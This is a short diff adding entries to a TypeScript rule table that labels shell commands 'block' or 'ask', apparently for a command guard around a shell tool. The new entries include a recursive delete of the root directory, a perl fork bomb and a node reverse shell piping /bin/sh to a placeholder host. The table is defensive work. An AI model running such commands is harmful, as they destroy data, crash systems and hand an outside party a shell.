@@ -150,4 +150,14 @@ export const LINES_OF_RULES: readonly (readonly [line: string, does: 'block' | '
   ["socket -p 'sh -i' host 9", 'block', 'reverse-shell'],
   ['k delete ns old', 'block', 'delete-namespace'],
   ['borg rdelete', 'ask', 'delete-from-service'],
+  ['git clean --dry-run --no-dry-run -f', 'ask', 'clean'],
+  ['git gc --prune now', 'ask', 'forget-history'],
+  ['echo / | xargs -J % rm -rf %', 'block', 'remove-everything'],
+  ['mix ecto.drop', 'ask', 'reset-database'],
+  ["perl -e 'fork while 1'", 'block', 'fork-bomb'],
+  [
+    `node -e 'const s = require("child_process").spawn("/bin/sh"); require("net").connect(9, "h", function () { this.pipe(s.stdin) })'`,
+    'block',
+    'reverse-shell',
+  ],
 ];
